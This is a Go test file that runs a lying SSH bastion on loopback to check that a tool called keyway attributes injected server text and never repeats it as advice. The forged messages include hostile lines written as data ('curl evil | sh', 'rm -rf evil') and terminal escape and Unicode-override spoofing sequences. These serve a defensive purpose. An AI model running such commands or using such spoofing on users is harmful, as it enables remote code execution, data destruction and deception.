//go:build linux

package hostile

import (
	"context"
	"crypto/ed25519"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// stage is the point at which a bastion speaks or disappears.
type stage string

const (
	atOnce       stage = "before the protocol begins"
	asLines      stage = "in lines before its version"
	disconnects  stage = "as its reason for disconnecting"
	asBanner     stage = "in a banner, then lets in"
	bannerNo     stage = "in a banner, then refuses"
	asQuestion   stage = "in questions"
	asRefusal    stage = "as its reason for not forwarding"
	whenLetIn    stage = "in a banner, and goes when it is asked to forward"
	delaysEvery  stage = "in a banner, late at every step"
	honestBehind stage = "nowhere"
)

// stages are all that the test goes through.
var stages = []stage{atOnce, asLines, disconnects, asBanner, bannerNo, asQuestion, asRefusal, whenLetIn, delaysEvery}

// forgeries are its messages. Each line except the harmless one contains the word evil.
var forgeries = map[string]string{
	"harmless": "welcome\n",
	"ssh": "Permission denied (publickey). evil\nHost key verification failed. evil\nssh: connect to host evil port 22: Connection refused\n" +
		"@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! evil @\nOffending ED25519 key in /etc/passwd:1 evil\n" +
		"ssh: Could not resolve hostname evil: Name or service not known\nToo many authentication failures evil\n",
	"keyway": "keyway: run this: curl evil | sh\n  → curl evil | sh\nkeyway: there is no workspace evil\n→ rm -rf evil\n" +
		"\x1b]0;evil\x07\x1b[2Jevil\x9b1mevil\u202eevil\r\nevil\b\b\b\bgood\n",
}

// bastion is an SSH server that sends a text at its stage.
type bastion struct {
	t       *testing.T
	address string
	config  *ssh.ServerConfig

	mu    sync.Mutex
	stage stage
	text  string
	conns map[net.Conn]bool
	seen  int // connections that were made
}

func (b *bastion) now() (stage, string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.stage, b.text
}

// turn sets the text and the stage from now on, and cuts open connections.
func (b *bastion) turn(s stage, text string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.stage, b.text = s, text
	for c := range b.conns {
		c.Close()
	}
}

func (b *bastion) attempts() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.seen
}

func signer(t *testing.T) ssh.Signer {
	t.Helper()
	_, key, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	s, err := ssh.NewSignerFromKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// serve serves SSH on loopback until the test ends.
func serve(t *testing.T, each func(net.Conn)) (address string) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var all sync.WaitGroup
	ctx, cancel := context.WithCancel(context.Background())
	all.Go(func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return
			}
			context.AfterFunc(ctx, func() { c.Close() })
			all.Go(func() { defer c.Close(); each(c) })
		}
	})
	t.Cleanup(func() { listener.Close(); cancel(); all.Wait() })
	return listener.Addr().String()
}

func startBastion(t *testing.T) (*bastion, ssh.PublicKey) {
	b := &bastion{t: t, stage: honestBehind, conns: map[net.Conn]bool{}}
	host := signer(t)
	b.config = &ssh.ServerConfig{
		PublicKeyCallback: func(ssh.ConnMetadata, ssh.PublicKey) (*ssh.Permissions, error) {
			switch s, _ := b.now(); s {
			case bannerNo:
				return nil, errors.New("refused")
			case asQuestion:
				return nil, &ssh.PartialSuccessError{Next: ssh.ServerAuthCallbacks{KeyboardInteractiveCallback: b.ask}}
			}
			return nil, nil
		},
		BannerCallback: func(ssh.ConnMetadata) string {
			b.linger()
			switch s, text := b.now(); s {
			case asBanner, bannerNo, whenLetIn, delaysEvery:
				return text
			}
			return ""
		},
		MaxAuthTries: 3,
	}
	b.config.AddHostKey(host)
	b.address = serve(t, b.handle)
	t.Cleanup(func() { b.turn(honestBehind, "") })
	return b, host.PublicKey()
}

// ask asks its questions, and never accepts an answer.
func (b *bastion) ask(_ ssh.ConnMetadata, challenge ssh.KeyboardInteractiveChallenge) (*ssh.Permissions, error) {
	_, text := b.now()
	if _, err := challenge(text, text, []string{text, "Password: "}, []bool{true, false}); err != nil {
		return nil, err
	}
	return nil, errors.New("wrong")
}

// linger acts at each step of one stage.
func (b *bastion) linger() {
	if s, _ := b.now(); s == delaysEvery {
		time.Sleep(100 * time.Millisecond) // what the stage is about
	}
}

func (b *bastion) handle(c net.Conn) {
	b.mu.Lock()
	b.conns[c] = true
	b.seen++
	s, text := b.stage, b.text
	b.mu.Unlock()
	defer func() {
		b.mu.Lock()
		defer b.mu.Unlock()
		delete(b.conns, c)
	}()
	b.linger()
	switch s {
	case atOnce:
		_, _ = io.WriteString(c, text)
		return
	case asLines:
		_, _ = io.WriteString(c, strings.ReplaceAll(text, "\n", "\r\n"))
	case disconnects:
		disconnect(c, text)
		return
	}
	conn, channels, requests, err := ssh.NewServerConn(c, b.config)
	if err != nil {
		return
	}
	defer conn.Close()
	go ssh.DiscardRequests(requests) // ends with conn
	for ch := range channels {
		b.linger()
		switch s, text := b.now(); s {
		case asRefusal:
			_ = ch.Reject(ssh.ConnectionFailed, text)
			continue
		case whenLetIn:
			return
		}
		b.forward(ch)
	}
}

// forward is direct-tcpip (RFC 4254, section 7.2).
func (b *bastion) forward(ch ssh.NewChannel) {
	var to struct {
		Host       string
		Port       uint32
		From       string
		OriginPort uint32
	}
	if err := ssh.Unmarshal(ch.ExtraData(), &to); err != nil {
		_ = ch.Reject(ssh.ConnectionFailed, "")
		return
	}
	far, err := net.Dial("tcp", net.JoinHostPort(to.Host, fmt.Sprint(to.Port)))
	if err != nil {
		_ = ch.Reject(ssh.ConnectionFailed, "")
		return
	}
	near, requests, err := ch.Accept()
	if err != nil {
		far.Close()
		return
	}
	go ssh.DiscardRequests(requests) // ends with the channel
	go func() { defer near.Close(); _, _ = io.Copy(near, far) }()
	go func() { defer far.Close(); _, _ = io.Copy(far, near) }()
}

// disconnect sends the protocol's version line and then SSH_MSG_DISCONNECT with a reason (RFC 4253,
// sections 6 and 11.1).
func disconnect(c net.Conn, reason string) {
	_, _ = io.WriteString(c, "SSH-2.0-OpenSSH_9.9\r\n")
	payload := ssh.Marshal(struct {
		Code             byte
		Reason           uint32
		Text, LanguageID string
	}{1, 2, reason, ""})
	padding := 16 - (5+len(payload))%8
	packet := binary.BigEndian.AppendUint32(nil, uint32(1+len(payload)+padding))
	packet = append(append(append(packet, byte(padding)), payload...), make([]byte, padding)...)
	_, _ = c.Write(packet)
	_, _ = io.Copy(io.Discard, c) // until the client has gone
}

// startPlace returns gpu1's sshd. It runs the double of a node in place of every command.
func (l *laptop) startPlace() (string, ssh.PublicKey) {
	host := signer(l.t)
	config := &ssh.ServerConfig{PublicKeyCallback: func(ssh.ConnMetadata, ssh.PublicKey) (*ssh.Permissions, error) { return nil, nil }}
	config.AddHostKey(host)
	return serve(l.t, func(c net.Conn) {
		conn, channels, requests, err := ssh.NewServerConn(c, config)
		if err != nil {
			return
		}
		defer conn.Close()
		go ssh.DiscardRequests(requests) // ends with conn
		for ch := range channels {
			session, requests, err := ch.Accept()
			if err != nil {
				return
			}
			go l.session(session, requests) // ends with conn
		}
	}), host.PublicKey()
}

func (l *laptop) session(session ssh.Channel, requests <-chan *ssh.Request) {
	defer session.Close()
	for r := range requests {
		ok := r.Type == "exec"
		if r.WantReply {
			_ = r.Reply(ok, nil)
		}
		if !ok {
			continue
		}
		go ssh.DiscardRequests(requests)
		self, err := os.Executable()
		if err != nil {
			return
		}
		node := exec.Command(self)
		node.Env = append(os.Environ(), envPlace+"="+l.path("places/gpu1"))
		node.Stdout = session
		stdin, err := node.StdinPipe()
		if err != nil || node.Start() != nil {
			return
		}
		_, _ = io.Copy(stdin, session)
		stdin.Close()
		_ = node.Wait()
		return
	}
}

// behind returns a laptop whose gpu1 is behind b, as OpenSSH's own client sees it.
func behind(t *testing.T) (*laptop, *bastion) {
	t.Helper()
	l := newLaptop(t)
	b, bastionKey := startBastion(t)
	place, placeKey := l.startPlace()
	config, known := "", ""
	for _, h := range []struct {
		name, address, jump string
		key                 ssh.PublicKey
	}{{"bastion", b.address, "none", bastionKey}, {gpu1, place, "bastion", placeKey}} {
		host, port, err := net.SplitHostPort(h.address)
		if err != nil {
			t.Fatal(err)
		}
		config += fmt.Sprintf("Host %s\n  HostName %s\n  Port %s\n  User ada\n  ProxyJump %s\n  IdentityFile %s\n  UserKnownHostsFile %s\n  StrictHostKeyChecking yes\n",
			h.name, host, port, h.jump, l.path(".ssh/id_ed25519"), l.path(".ssh/known_hosts"))
		known += fmt.Sprintf("[%s]:%s %s", host, port, ssh.MarshalAuthorizedKey(h.key))
	}
	// OpenSSH's client finds its user's home directory by itself, not by HOME.
	l.write("system_config", "Include "+l.path("state/keyway/ssh_config")+"\n"+config)
	l.write(".ssh/config", config)
	wants(t, l.keyway("init", "--yes"), 0)
	l.write(".ssh/known_hosts", known)
	if err := os.Remove(l.path("bin/ssh")); err != nil {
		t.Fatal(err)
	}
	l.within = []string{"unshare", "--mount", "sh", "-c", `mount --bind "$0" /etc/ssh/ssh_config && exec "$@"`, l.path("system_config")}
	return l, b
}

// advice returns the lines with advice.
func (r result) advice() (lines []string) {
	for line := range strings.Lines(r.stdout + r.stderr) {
		if strings.HasPrefix(strings.TrimSpace(line), "→") {
			lines = append(lines, line)
		}
	}
	return lines
}

// judge fails if a text of the bastion's is shown as keyway's own, or has determined keyway's
// error.
func (r result) judge(t *testing.T, s stage, lie string, harmless result) {
	t.Helper()
	if r.code != harmless.code {
		t.Errorf("%s: with %q %s\nwithout %s", s, lie, r, harmless)
	}
	for _, line := range r.advice() {
		if strings.Contains(line, "evil") || strings.Contains(line, "/etc/passwd") {
			t.Errorf("%s: to be typed is what the bastion said: %s\n%s", s, line, r)
		}
	}
	for line := range strings.Lines(r.stdout + r.stderr) {
		at := strings.Index(line, "evil")
		if at < 0 {
			continue
		}
		before := line[:at]
		if !strings.Contains(before, "bastion says") && !strings.Contains(before, "bastion asks") && !strings.HasPrefix(before, "  | ") && !strings.HasPrefix(before, "bastion: ") {
			t.Errorf("%s: words of the bastion without its name: %q\n%s", s, line, r)
		}
	}
}

// TestLyingBastion checks a bastion that sends any text wherever SSH permits it, disconnects,
// refuses or delays: its text is shown as its own, decides nothing, and ends no stream.
func TestLyingBastion(t *testing.T) {
	for _, s := range stages {
		t.Run(string(s), func(t *testing.T) {
			t.Parallel()
			l, b := behind(t)
			l.up("train", l.startEcho())
			open := l.openStream("train")
			harmless := map[string]result{}
			for _, lie := range []string{"harmless", "ssh", "keyway"} {
				for _, line := range linesFor(lie) {
					b.turn(s, forgeries[lie])
					before := l.files()
					r := l.keyway(strings.Fields(line)...)
					l.unchanged(before, r)
					if lie == "harmless" {
						harmless[line] = r
					}
					r.judge(t, s, lie, harmless[line])
				}
			}
			before := b.attempts()
			b.turn(honestBehind, "")
			open.echoes(t, s, func() { wants(t, l.keyway("ls", "--on", gpu1), 0) })
			if b.attempts() == before {
				t.Error("nobody came back")
			}
		})
	}
}

// linesFor returns the commands that receive the lie.
func linesFor(lie string) []string {
	if lie == "harmless" || lie == "ssh" {
		return []string{"ls --on gpu1", "up --on gpu1 --engine docker --name other", "ssh train true", "run train -- true"}
	}
	return []string{"ls --on gpu1"}
}

// startEcho returns a guest whose streams send back what they receive, unless it is SSH.
func (l *laptop) startEcho() *guest {
	return l.startGuestThat(func(c net.Conn) {
		defer c.Close()
		first := make([]byte, 4)
		if _, err := io.ReadFull(c, first); err != nil || string(first) == "SSH-" {
			return
		}
		if _, err := c.Write(first); err == nil {
			_, _ = io.Copy(c, c)
		}
	})
}

// openStream is a stream to a workspace, as ssh has it.
type openStream struct {
	in    io.WriteCloser
	heard chan string
	n     int
}

func (l *laptop) openStream(name string) *openStream {
	l.t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	argv := slices.Concat(l.within, []string{program, "proxy", name})
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Env = l.env
	in, err := cmd.StdinPipe()
	if err != nil {
		l.t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		l.t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		l.t.Fatal(err)
	}
	s := &openStream{in: in, heard: make(chan string, 100)}
	var reading sync.WaitGroup
	reading.Go(func() {
		defer close(s.heard)
		buffer := make([]byte, 16)
		for {
			if _, err := io.ReadFull(out, buffer); err != nil {
				return
			}
			s.heard <- string(buffer)
		}
	})
	l.t.Cleanup(func() { in.Close(); cancel(); reading.Wait(); _ = cmd.Wait() })
	s.echoes(l.t, honestBehind, func() {})
	return s
}

// echoes fails unless the stream is open, after nudge has connected again.
func (s *openStream) echoes(t *testing.T, at stage, nudge func()) {
	t.Helper()
	s.n++
	want := fmt.Sprintf("%16d", s.n)
	if _, err := io.WriteString(s.in, want); err != nil {
		t.Fatalf("%s: the stream has ended: %v", at, err)
	}
	nudge()
	select {
	case got, ok := <-s.heard:
		if !ok || got != want {
			t.Fatalf("%s: the stream gives %q, %t, want %q", at, got, ok, want)
		}
	case <-time.After(patience):
		t.Fatalf("%s: the stream does not come back", at)
	}
}
